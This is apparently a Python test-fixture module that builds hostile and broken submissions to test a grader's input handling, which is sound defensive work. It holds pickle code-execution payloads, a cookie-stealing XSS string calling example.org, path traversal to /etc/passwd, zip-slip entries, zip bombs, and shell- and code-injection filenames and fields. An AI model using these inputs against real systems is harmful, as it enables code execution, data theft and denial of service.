@@ -1,0 +1,306 @@
+"""Hostile and broken submissions, generated: what a careless or a clever student may hand in.
+
+Each entry of CORPUS spoils a copy of an honest submission in place; what must happen to it stands in test_grading.py.
+"""
+
+import io
+import json
+import os
+import pickle
+import struct
+import warnings
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import numpy as np
+import torch
+from safetensors.torch import load_file, save_file
+
+from tests.factory import HONEST
+from utils.record import recipe_hash, sha256_file
+
+TARGET = HONEST["1.2.3"]  # the run that is spoilt, where it is one
+
+
+def edit_record(path: Path, change: Callable[[dict], None]) -> None:
+    """Change a record and make its digests and its recipe's hash fit, as a careful forger would."""
+    record = json.loads(path.read_text())
+    change(record)
+    record["recipe"]["hash"] = recipe_hash(record["recipe"]["fields"])
+    for artifact in record["artifacts"].values():
+        file = path.parent / artifact["name"]
+        artifact["sha256"] = sha256_file(file) if file.is_file() else artifact["sha256"]
+    path.write_text(json.dumps(record))
+
+
+def claim_everything(path: Path) -> None:
+    """A record at `path` that agrees with itself and claims every test image."""
+
+    def all_right(record: dict) -> None:
+        with np.load(path.with_suffix(".npz")) as file:
+            arrays = {name: file[name] for name in file.files}
+        arrays["test_predictions"] = arrays["test_labels"].copy()
+        np.savez(path.with_suffix(".npz"), **arrays)
+        counts = np.bincount(arrays["test_labels"])
+        record["confusion"]["counts"] = np.diag(counts).tolist()
+        for name, metric in record["metrics"].items():
+            if name.startswith("test/classifier_top1"):
+                metric["correct"], metric["value"] = metric["n"], 1.0
+
+    edit_record(path, all_right)
+
+
+class Payload:
+    """Unpickled, it would leave a file."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+
+    def __reduce__(self) -> tuple:
+        return Path.touch, (self.path,)
+
+
+def tamper(path: Path, what: str) -> None:
+    """Spoil the checkpoint at `path`."""
+    tensors = load_file(path)
+    some = "encoder.latent.weight"
+    if what == "nan":
+        tensors[some][0, 0] = float("nan")
+    elif what == "infinite":
+        tensors["classifier.classifier.layers.0.bias"][0] = float("inf")
+    elif what == "shape":
+        tensors[some] = tensors[some][:, :-1].contiguous()
+    elif what == "type":
+        tensors[some] = tensors[some].bfloat16()
+    elif what == "missing":
+        del tensors[some]
+    elif what == "unknown":
+        tensors["encoder.backdoor"] = torch.zeros(1)
+    save_file(tensors, path)
+    if what == "pickle":
+        path.write_bytes(pickle.dumps(Payload(path.parent / "executed")))
+    elif what == "torch pickle":
+        torch.save({"encoder": Payload(path.parent / "executed")}, path)
+    elif what == "header bomb":
+        path.write_bytes((2**62).to_bytes(8, "little") + b"{")
+    elif what == "cut short":
+        path.write_bytes(path.read_bytes()[:-100])
+    elif what == "empty":
+        path.write_bytes(b"")
+    elif what == "gone":
+        path.unlink()
+
+
+def spoilt(what: str) -> Callable[[Path], None]:
+    """A checkpoint that is tampered with, and a record whose digest fits it."""
+    def spoil(folder: Path) -> None:
+        tamper(folder / f"{TARGET}.safetensors", what)
+        edit_record(folder / f"{TARGET}.json", lambda record: None)
+    return spoil
+
+
+def field(**values: object) -> Callable[[Path], None]:
+    """A record whose recipe asks for something else."""
+    return lambda folder: edit_record(folder / f"{TARGET}.json",
+                                      lambda record: record["recipe"]["fields"].update(values))
+
+
+def text(change: Callable[[str], str]) -> Callable[[Path], None]:
+    """A record whose text is changed."""
+    def spoil(folder: Path) -> None:
+        path = folder / f"{TARGET}.json"
+        path.write_text(change(path.read_text()), encoding="utf-8")
+    return spoil
+
+
+def added(name: str, content: bytes = b"x") -> Callable[[Path], None]:
+    """One more file."""
+    def spoil(folder: Path) -> None:
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(content)
+    return spoil
+
+
+def linked(name: str, target: str) -> Callable[[Path], None]:
+    """A link in the place of a file."""
+    def spoil(folder: Path) -> None:
+        (folder / name).unlink(missing_ok=True)
+        (folder / name).symlink_to(target)
+    return spoil
+
+
+def run_field(**values: object) -> Callable[[Path], None]:
+    """A record whose run says something else."""
+    return lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["run"].update(values))
+
+
+def zipped(fill: Callable[[zipfile.ZipFile], None]) -> Callable[[Path], None]:
+    """The honest submission as NAME.zip with more in it, in place of the folder."""
+    def spoil(folder: Path) -> None:
+        with zipfile.ZipFile(folder.with_name(folder.name + ".zip"), "w", zipfile.ZIP_DEFLATED) as archive:
+            for path in sorted(folder.iterdir()):
+                archive.write(path, path.name)
+            fill(archive)
+        for path in folder.iterdir():
+            path.unlink()
+        folder.rmdir()
+    return spoil
+
+
+def with_entry(name: str, content: bytes = b"{}", mode: int = 0) -> Callable[[Path], None]:
+    def fill(archive: zipfile.ZipFile) -> None:
+        entry = zipfile.ZipInfo(name)
+        entry.external_attr = mode << 16
+        with warnings.catch_warnings():  # of a name that is there already, which is what is wanted
+            warnings.simplefilter("ignore", UserWarning)
+            archive.writestr(entry, content)
+    return zipped(fill)
+
+
+def zip_bytes(change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
+    """The archive with its bytes changed."""
+    def spoil(folder: Path) -> None:
+        zipped(lambda archive: None)(folder)
+        path = folder.with_name(folder.name + ".zip")
+        path.write_bytes(change(path.read_bytes()))
+    return spoil
+
+
+def arrays(change: Callable[[dict], None]) -> Callable[[Path], None]:
+    """Arrays beside the record that are changed, with a digest that fits."""
+    def spoil(folder: Path) -> None:
+        path = folder / f"{TARGET}.npz"
+        with np.load(path) as file:
+            kept = {name: file[name] for name in file.files}
+        change(kept)
+        np.savez_compressed(path, **kept)
+        edit_record(path.with_suffix(".json"), lambda record: None)
+    return spoil
+
+
+def pickled_arrays(folder: Path) -> None:
+    """An .npz with an object array, whose loading would run code."""
+    path = folder / f"{TARGET}.npz"
+    np.savez(path, test_labels=np.array([Payload(folder / "executed")], dtype=object))
+    edit_record(path.with_suffix(".json"), lambda record: None)
+
+
+def bomb_of_arrays(folder: Path) -> None:
+    """An .npz of a few kilobytes that says it is a gigabyte and unpacks to a quarter of one."""
+    path = folder / f"{TARGET}.npz"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("map_points.npy", "w") as file:
+        header = io.BytesIO()
+        np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (2**28, 1)})
+        file.write(header.getvalue())
+        for _ in range(256):
+            file.write(bytes(2**20))
+    edit_record(path.with_suffix(".json"), lambda record: None)
+
+
+def bomb(archive: zipfile.ZipFile) -> None:
+    """A few kilobytes that unpack to a quarter of a gigabyte."""
+    with archive.open("big.json", "w", force_zip64=True) as file:
+        for _ in range(256):
+            file.write(bytes(2**20))
+
+
+def many(archive: zipfile.ZipFile) -> None:
+    for i in range(600):
+        archive.writestr(f"{i}.json", "{}")
+
+
+def other_weights(folder: Path) -> None:
+    """Weights that learned nothing under an honest record."""
+    path = folder / f"{TARGET}.safetensors"
+    torch.manual_seed(3)
+    save_file({name: torch.randn_like(value) if value.is_floating_point() and value.ndim > 1 else value
+               for name, value in load_file(path).items()}, path)
+    edit_record(path.with_suffix(".json"), lambda record: None)
+
+
+def long_header(folder: Path) -> None:
+    """A safetensors file whose header is a deep nest of brackets."""
+    header = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header)
+    edit_record(folder / f"{TARGET}.json", lambda record: None)
+
+
+def overlapping(folder: Path) -> None:
+    """A safetensors header whose tensors lie on each other."""
+    header = json.dumps({"encoder.latent.weight": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
+                         "encoder.latent.bias": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()
+    (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(12))
+    edit_record(folder / f"{TARGET}.json", lambda record: None)
+
+
+def pipe(folder: Path) -> None:
+    (folder / f"{TARGET}.json").unlink()
+    os.mkfifo(folder / f"{TARGET}.json")
+
+
+def only(*names: str) -> Callable[[Path], None]:
+    """Nothing but these files is left."""
+    def spoil(folder: Path) -> None:
+        for path in folder.iterdir():
+            if path.name not in names:
+                path.unlink()
+    return spoil
+
+
+SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
+CORPUS: dict[str, Callable[[Path], None]] = {
+    # checkpoints
+    "pickle-as-safetensors": spoilt("pickle"), "torch-pickle-as-safetensors": spoilt("torch pickle"),
+    "header-bomb": spoilt("header bomb"), "deep-header": long_header, "overlapping-tensors": overlapping,
+    "nan-weights": spoilt("nan"), "inf-weights": spoilt("infinite"), "wrong-shape": spoilt("shape"),
+    "wrong-type": spoilt("type"), "missing-tensor": spoilt("missing"), "unknown-tensor": spoilt("unknown"),
+    "cut-checkpoint": spoilt("cut short"), "empty-checkpoint": spoilt("empty"), "no-checkpoint": spoilt("gone"),
+    "stale-digest": lambda folder: tamper(folder / f"{TARGET}.safetensors", "nan"), "other-weights": other_weights,
+    "pickle-as-pt": added("model.pt", pickle.dumps(Payload(Path("executed")))),
+    # records
+    "claims-everything": lambda folder: claim_everything(folder / f"{TARGET}.json"),
+    "claims-more-than-all": text(lambda t: t.replace('"value": 0.', '"value": 7.', 1)),
+    "duplicate-key": text(lambda t: t.replace('"schema"', '"schema": 1, "schema"', 1)),
+    "huge-number": text(lambda t: t.replace('"seconds":', '"seconds": 1e999, "x":', 1)),
+    "nan-number": text(lambda t: t.replace('"seconds":', '"seconds": NaN, "x":', 1)),
+    "deep-nesting": text(lambda t: "[" * 200_000 + "]" * 200_000), "not-json": text(lambda t: "\x00\x01"),
+    "empty-record": text(lambda t: ""), "a-list": text(lambda t: "[1, 2]"), "a-number": text(lambda t: "1" * 100_000),
+    "long-record": text(lambda t: t[:-1] + " " * 60_000_000 + t[-1]), "surrogates": text(
+        lambda t: t.replace(TARGET, "\\ud800" + TARGET)),
+    "bom": lambda folder: (folder / f"{TARGET}.json").write_bytes(b"\xff\xfe{}"),
+    "unknown-field": run_field(extra=1), "negative-seed": run_field(seed=-1), "script-in-method": run_field(
+        method=SCRIPT), "script-in-argv": run_field(argv=["_main.py", SCRIPT]), "wrong-task": run_field(task="1.2.9"),
+    "path-as-dataset": run_field(dataset="../../etc/passwd"), "folder-as-dataset": run_field(dataset="folder-x-1234"),
+    "other-dataset": run_field(dataset="mnist"), "quick-run": run_field(status="quick"),
+    "artifact-outside": lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["artifacts"][
+        "checkpoint"].update(name="../../../etc/passwd")),
+    "artifact-absolute": lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["artifacts"][
+        "checkpoint"].update(name="/etc/passwd")),
+    "huge-widths": field(widths=[65536, 65536]), "huge-latent": field(latent_dim=65536),
+    "negative-widths": field(widths=[-1, 4]), "words-as-widths": field(widths="all"),
+    "unknown-encoder": field(encoder="__import__('os').system('touch executed')"),
+    "other-encoder": field(encoder="vit"),
+    "script-in-recipe": field(pooling=SCRIPT),
+    # arrays
+    "pickled-arrays": pickled_arrays, "array-bomb": bomb_of_arrays, "arrays-gone": only(
+        *(f"{TARGET}{suffix}" for suffix in (".json", ".safetensors"))),
+    "array-too-many": arrays(lambda kept: kept.update(backdoor=np.zeros(3))),
+    "huge-images": arrays(lambda kept: kept.update(neighbour_images=np.zeros((10, 6, 1500, 1500, 1), np.uint8))),
+    "labels-of-my-own": arrays(lambda kept: kept.update(test_labels=np.zeros_like(kept["test_labels"]))),
+    # folders
+    "link-to-file": linked(f"{TARGET}.json", "/etc/passwd"), "link-to-neighbour": linked(
+        f"{TARGET}.safetensors", f"../honest/{TARGET}.safetensors"), "link-to-folder": linked("more", "/etc"),
+    "pipe": pipe, "hidden-file": added(".hidden.json", b"{}"), "script-file": added("run.py", b"open('executed', 'w')"),
+    "shell-name": added("$(touch executed).json", b"{}"), "formula-name": added("=cmd.json", b"{}"),
+    "html-name": added("<b>.json", b"{}"), "deep-folders": added("a/b/c/d/e/f/x.json", b"{}"),
+    "empty": only(), "no-records": only(f"{TARGET}.npz"), "newline-name": added("a\nb.json", b"{}"),
+    # archives
+    "zip-slip": with_entry("../../escaped.json"), "zip-absolute": with_entry("/tmp/escaped.json"),
+    "zip-drive": with_entry("C:\\escaped.json"), "zip-link": with_entry("link.json", b"/etc/passwd", 0o120777),
+    "zip-duplicate": with_entry(f"{TARGET}.json", b"{}"), "zip-case": with_entry(f"{TARGET.upper()}.JSON".replace(
+        ".JSON", ".json")), "zip-bomb": zipped(bomb), "zip-many": zipped(many), "zip-cut": zip_bytes(
+        lambda data: data[: len(data) // 2]), "zip-noise": zip_bytes(lambda data: os.urandom(1000)),
+    "zip-empty": zip_bytes(lambda data: b""), "zip-null-name": with_entry("a\x01b.json"),
+    "zip-flipped": zip_bytes(lambda data: data[:3000] + bytes(1000) + data[4000:]),
+}
